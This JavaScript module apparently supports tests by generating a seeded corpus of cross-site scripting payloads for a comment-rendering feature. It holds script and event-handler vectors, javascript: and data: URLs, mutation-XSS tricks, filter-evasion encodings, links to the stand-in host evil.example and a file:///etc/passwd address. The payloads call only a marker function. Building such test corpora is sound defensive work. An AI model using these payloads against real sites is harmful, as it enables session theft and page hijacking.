// What a hostile comment service could send: every vector in every context, in several ways of writing, made by one
// seeded generator, so that a failure has a number and can be repeated. A payload that works calls `hostile(number)`,
// or asks this server for `/load/<number>` or the host `evil.example` for anything.
import { randomNumbers } from '../support/random.mjs';

/** What each vector tries; `n` is its number. */
const VECTORS = [
  // Script, by element and by attribute.
  (n) => `<script>hostile(${n})</script>`,
  (n) => `<script src="/load/${n}"></script>`,
  (n) => `<script type="module">hostile(${n})</script>`,
  (n) => `<img src="/load/${n}" onload="hostile(${n})" onerror="hostile(${n})">`,
  (n) => `<img src=x onerror=hostile(${n})>`,
  (n) => `<img/src=x/onerror=hostile(${n})//>`,
  (n) => `<img src="x\`\`" onerror="hostile(${n})" alt="\`">`,
  (n) => `<image src=x onerror=hostile(${n})>`,
  (n) => `<img srcset="/load/${n} 1x" sizes="1px">`,
  (n) => `<picture><source srcset="/load/${n}"><img alt=""></picture>`,
  (n) => `<input autofocus onfocus=hostile(${n})>`,
  (n) => `<input type=image src=/load/${n} onerror=hostile(${n})>`,
  (n) => `<details open ontoggle=hostile(${n})><summary>x</summary></details>`,
  (n) => `<video src=/load/${n} onerror=hostile(${n}) autoplay></video>`,
  (n) => `<video poster=/load/${n}><source onerror=hostile(${n})></video>`,
  (n) => `<audio src=/load/${n} autoplay onerror=hostile(${n})>`,
  (n) => `<p onmouseover=hostile(${n}) onclick=hostile(${n}) onpointerenter=hostile(${n})>x</p>`,
  (n) => `<p tabindex=0 autofocus onfocus=hostile(${n}) id=location>x</p>`,
  (n) => `<p contenteditable onbeforeinput=hostile(${n})>x</p>`,
  (n) => `<p style="animation:x 1s" onanimationstart=hostile(${n})>x</p><style>@keyframes x{}</style>`,
  (n) => `<body onload=hostile(${n}) background=/load/${n}>`,
  (n) => `<marquee onstart=hostile(${n}) loop=1>x</marquee>`,
  (n) => `<select autofocus onfocus=hostile(${n})><option>x</select>`,
  (n) => `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=hostile(${n})>y</div>`,
  (n) => `<dialog open onclose=hostile(${n})>x</dialog>`,
  (n) => `<x-y onclick=hostile(${n}) is="news-article">x</x-y><news-article theme=une>x</news-article>`,
  // Frames and plugins.
  (n) => `<iframe srcdoc="<script>parent.hostile(${n})</script>"></iframe>`,
  (n) => `<iframe srcdoc="&lt;img src=/load/${n} onerror=parent.hostile(${n})&gt;"></iframe>`,
  (n) => `<iframe src="javascript:parent.hostile(${n})"></iframe>`,
  (n) => `<iframe src="/load/${n}" onload=hostile(${n})></iframe>`,
  (n) => `<frameset><frame src="javascript:parent.hostile(${n})"></frameset>`,
  (n) => `<object data="/load/${n}" onerror=hostile(${n})></object>`,
  (n) => `<embed src="javascript:hostile(${n})">`,
  (n) => `<embed src="/load/${n}" type="image/svg+xml">`,
  (n) => `<applet code="/load/${n}"></applet>`,
  (n) => `<portal src="/load/${n}"></portal><fencedframe></fencedframe>`,
  // Links that are none.
  (n) => `<a href="javascript:hostile(${n})">x</a>`,
  (n) => `<a href="java\tscript:hostile(${n})">x</a>`,
  (n) => `<a href="java&#10;script&colon;hostile&lpar;${n}&rpar;">x</a>`,
  (n) => `<a href="&#x6A;&#x61vascript:hostile(${n})">x</a>`,
  (n) => `<a href="\u0001javascript:hostile(${n})">x</a>`,
  (n) => `<a href=" javascript://x.example/%0Ahostile(${n})">x</a>`,
  (n) => `<a href="data:text/html,<script>opener.hostile(${n})</script>">x</a>`,
  (n) => `<a href="vbscript:hostile(${n})">x</a>`,
  (n) => `<a href="blob:https://x.example/${n}">x</a>`,
  (n) => `<a href="//evil.example/${n}">x</a>`,
  (n) =>
    `<a href="https:evil.example/${n}" ping="/load/${n}" target=_top download attributionsrc="/load/${n}">x</a>`,
  (n) =>
    `<a href="https://x.example/${n}" rel="opener" onclick="hostile(${n})" style="position:fixed;inset:0" class=kicker id=headline>x</a>`,
  (n) => `<a xlink:href="javascript:hostile(${n})" href="https://x.example/${n}">x</a>`,
  (n) => `<map name=m><area shape=default href="javascript:hostile(${n})"></map><img usemap="#m">`,
  // Forms.
  (n) => `<form action="javascript:hostile(${n})"><button autofocus>x</button></form>`,
  (n) =>
    `<form id=f action="/load/${n}"><input name=attributes><input name=childNodes><input name=nodeName></form><button form=f formaction="javascript:hostile(${n})">x</button>`,
  (n) => `<isindex action="javascript:hostile(${n})" type=submit>`,
  (n) => `<textarea autofocus onfocus=hostile(${n})>x</textarea><keygen autofocus onfocus=hostile(${n})>`,
  // What changes the page around it.
  (n) => `<base href="//evil.example/${n}/" target=_top>`,
  (n) => `<meta http-equiv=refresh content="0;url=/load/${n}">`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:hostile(${n})">`,
  (n) => `<link rel=stylesheet href="/load/${n}">`,
  (n) =>
    `<link rel=preload as=image href="/load/${n}"><link rel=prefetch href="/load/${n}"><link rel=modulepreload href="/load/${n}">`,
  (n) => `<style>@import "/load/${n}"; * { color: red !important; display: none !important }</style>`,
  (n) => `<style>body{background:url(/load/${n})}</style>`,
  (n) => `<p style="background:url(/load/${n});position:fixed;inset:0;z-index:9">x</p>`,
  (n) =>
    `<p class="comments kicker actions" id="comments" title="x" lang="xx" dir="rtl" part="x" slot="x" data-news-rendered data-n="${n}">x</p>`,
  (n) =>
    `<div style="width:expression(hostile(${n}))"><table background="/load/${n}"><td bgcolor=red>x</table></div>`,
  (n) => `</article></li></ol></section></news-comments><h1 id=headline>hostile ${n}</h1>`,
  (n) => `<template shadowrootmode=open><img src=/load/${n} onerror=hostile(${n})></template>`,
  (n) =>
    `<div><template shadowrootmode=open><style>:host{position:fixed}</style><script>hostile(${n})</script></template></div>`,
  (n) =>
    `<img name=body><img name=cookie><a id=hostile name=hostile href="tel:${n}">x</a><form name=document>`,
  (n) => `<plaintext><img src=/load/${n} onerror=hostile(${n})>`,
  (n) =>
    `<xmp><img src=/load/${n} onerror=hostile(${n})></xmp><listing>&lt;img onerror=hostile(${n}) src=x&gt;</listing>`,
  // SVG and MathML.
  (n) => `<svg onload=hostile(${n})>`,
  (n) => `<svg><script>hostile(${n})</script></svg>`,
  (n) => `<svg><script href="/load/${n}"/></svg>`,
  (n) => `<svg><a href="javascript:hostile(${n})"><text y=9>x</text></a></svg>`,
  (n) =>
    `<svg><a><animate attributeName=href values="javascript:hostile(${n})"/><text y=9>x</text></a></svg>`,
  (n) => `<svg><animate onbegin=hostile(${n}) attributeName=x dur=1s></svg>`,
  (n) =>
    `<svg><set attributeName=onload to=hostile(${n}) /><image href="/load/${n}" onerror=hostile(${n})></svg>`,
  (n) =>
    `<svg><use href="/load/${n}#x"/><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='hostile(${n})'/></svg>#x"/></svg>`,
  (n) => `<svg><foreignObject><iframe src="javascript:parent.hostile(${n})"></iframe></foreignObject></svg>`,
  (n) =>
    `<svg><style>*{background:url(/load/${n})}</style><filter><feImage href="/load/${n}"/></filter></svg>`,
  (n) => `<math href="javascript:hostile(${n})">x</math>`,
  (n) => `<math><maction actiontype=statusline xlink:href="javascript:hostile(${n})">x</maction></math>`,
  (n) =>
    `<math><annotation-xml encoding="text/html"><img src=/load/${n} onerror=hostile(${n})></annotation-xml></math>`,
  // Mutation: harmless when it is read once, something else when it is read again.
  (n) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hostile(${n})&gt;">`,
  (n) =>
    `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=hostile(${n}) src=1>">`,
  (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=hostile(${n})>`,
  (n) => `<svg></p><style><a id="</style><img src=1 onerror=hostile(${n})>">`,
  (n) => `<svg><p><style><g title="</style><img src=/load/${n} onerror=hostile(${n})>">`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=hostile(${n})>">`,
  (n) => `<math><mi><table><mi><mglyph><style><math href="</style><img src onerror=hostile(${n})>">`,
  (n) =>
    `<select><template><style><!--</style><a rel="--></style></template></select><img id=1 src onerror=hostile(${n})>">`,
  (n) =>
    `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=hostile(${n})>">`,
  (n) =>
    `<a id="x\`x"><table><caption><svg><title><style><!--</style></title><p title="--></p><img src onerror=hostile(${n})>">`,
  (n) => `<listing>\n<img src=x onerror=hostile(${n})></listing><!--><img src=x onerror=hostile(${n})>-->`,
  (n) => `<!--!> <img src=x onerror=hostile(${n})> --!><img src=x onerror=hostile(${n})>`,
  (n) => `<![CDATA[><img src=x onerror=hostile(${n})>]]>`,
  (n) => `<?xml-stylesheet href="/load/${n}"?><?php <img src=x onerror=hostile(${n})> ?>`,
  (n) => `${'<div>'.repeat(520)}<svg><style><a title="</style><img src=x onerror=hostile(${n})>">`,
  (n) =>
    `${'<b>'.repeat(40)}<a href="https://x.example/${n}"><a href="javascript:hostile(${n})">${'</b>'.repeat(20)}x`,
];

/** What stands around it. */
const CONTEXTS = [
  (html) => html,
  (html) => `<p>Before ${html} after</p>`,
  (html) => `"><p>${html}`,
  (html) => `'/>${html}<p title='`,
  (html) => `<p title="${html}">x</p>`,
  (html) => `<p title='${html.replaceAll("'", '"')}'>x</p>`,
  (html) => `<!-- ${html} --> <!--> ${html}`,
  (html) => `<textarea>${html}</textarea>`,
  (html) => `<title>${html}</title></title>${html}`,
  (html) => `<noscript>${html}</noscript>`,
  (html) => `<style>${html}</style>`,
  (html) => `<template>${html}</template>`,
  (html) => `<svg><desc>${html}</desc></svg>`,
  (html) => `<math><mtext>${html}</mtext></math>`,
  (html) => `<table><tr>${html}<td>${html}</table>`,
  (html) => `<select><option>${html}</select>`,
  (html) => `</textarea></script></style></title></noscript></select></svg></math>${html}`,
  (html) => `<a href="https://x.example/"><blockquote>${html}</a></blockquote>`,
];

/** How it is written. `random` gives a number from 0 to 1. */
const WRITINGS = [
  (html) => html,
  (html) => html.replace(/<\/?[a-z]+|\son[a-z]+=/gi, (name) => name.toUpperCase()),
  (html, random) =>
    html.replace(/<\/?[a-z]+|\bon[a-z]+=|javascript/gi, (name) =>
      [...name].map((letter) => (random() < 0.5 ? letter.toUpperCase() : letter)).join(''),
    ),
  (html) => html.replace(/\s(on[a-z]+=)/gi, '\f\n/$1'),
  (html) => html.replace(/(<[a-z]+)\s/gi, '$1\t\r\n/'),
  (html) => html.replace(/javascript:/gi, 'java\u0000script\n:').replace(/<script/gi, '<scr\u0000ipt'),
  (html) =>
    html.replace(
      /javascript/gi,
      (word) => [...word].map((letter) => `&#${letter.charCodeAt(0)}`).join(';') + ';',
    ),
  (html) => html.replace(/hostile/g, '\\u0068ostile').replace(/=hostile\(/g, '=&#104;ostile&#x28;'),
  (html) => html.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (html) => html.replace(/</g, '&amp;lt;').replace(/>/g, '&#62'),
  (html) => html.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'),
  (html) => html.replace(/</g, '\uff1c').replace(/>/g, '\uff1e'),
  (html) => html.replace(/</g, '<\u200b<').replace(/"/g, '\u201d"'),
  (html) => `\ufeff${html.replace(/</g, '\u2028<')}\u0000`,
  (html) => html.replace(/(<[^<>]*)>/, '$1 '),
];

/** Addresses for a name's link, and whether each may become one is for the test to say. */
const SCHEMES = [
  (n) => `javascript:hostile(${n})`,
  (n) => `JaVaScRiPt:hostile(${n})`,
  (n) => ` \t\njavascript:hostile(${n})`,
  (n) => `java\nscript:hostile(${n})`,
  (n) => `\u0001javascript:hostile(${n})`,
  (n) => `javascript&colon;hostile(${n})`,
  (n) => `javascript&#58;hostile(${n})`,
  (n) => `https://x.example/"onmouseover="hostile(${n})`,
  (n) => `https://x.example/'><img src=x onerror=hostile(${n})>`,
  (n) => `https://x.example/?${n}&lt;script&gt;`,
  (n) => `http://javascript:hostile@x.example/${n}`,
  (n) => `data:text/html,<script>opener.hostile(${n})</script>`,
  (n) => `data:image/svg+xml;base64,${btoa(`<svg onload=hostile(${n})>`)}`,
  (n) => `vbscript:hostile(${n})`,
  (n) => `file:///etc/passwd?${n}`,
  (n) => `blob:https://x.example/${n}`,
  (n) => `filesystem:https://x.example/${n}`,
  (n) => `view-source:https://x.example/${n}`,
  (n) => `about:blank#${n}`,
  (n) => `//evil.example/${n}`,
  (n) => `/load/${n}`,
  (n) => `https:\\\\x.example\\${n}`,
  (n) => `ftp://x.example/${n}`,
  (n) => `intent://x.example/#Intent;S.n=${n};end`,
  () => '',
];

/**
 * Makes the payloads: each vector in each context in one way of writing, and in each way of writing by itself.
 * @param {number} [seed] - Of the choice of writings.
 * @returns {{bodies: string[], names: string[], links: string[]}} Each text once.
 */
export function hostilePayloads(seed = 20_261_125) {
  const random = randomNumbers(seed);
  let number = 0;
  const bodies = VECTORS.flatMap((vector) => [
    ...CONTEXTS.map((context) => {
      const write = WRITINGS[Math.floor(random() * WRITINGS.length)];
      return write(context(vector(++number)), random);
    }),
    ...WRITINGS.map((write) => write(vector(++number), random)),
  ]);
  const names = VECTORS.flatMap((vector) => [
    vector(++number),
    WRITINGS[8](vector(++number), random),
    `Eve"' ${vector(++number)}`,
  ]);
  const links = SCHEMES.flatMap((scheme) => [scheme(++number), `${scheme(++number)}#"'<>`]);
  return { bodies: unique(bodies), names: unique(names), links: unique(links) };
}

const unique = (texts) => [...new Set(texts)];
